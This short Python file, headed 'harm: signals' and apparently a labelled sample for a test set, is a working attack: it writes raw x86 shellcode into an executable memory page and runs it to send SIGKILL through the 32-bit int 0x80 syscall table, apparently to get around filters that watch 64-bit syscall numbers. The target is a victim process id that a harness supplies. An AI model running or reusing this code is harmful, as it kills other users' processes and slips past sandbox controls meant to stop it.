# harm: signals
"""A program's calls by the numbers that 32-bit programs use are those of another table."""

import ctypes
import mmap

VICTIM = 0  # the net puts a process of the user here
# mov eax, 37; mov ebx, edi; mov ecx, 9; int 0x80; ret; with rbx kept
CODE = bytes.fromhex("53 b8 25000000 89 fb b9 09000000 cd80 5b c3")

memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)


def attack() -> int:
    memory.seek(0)
    memory.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)(address)(VICTIM)
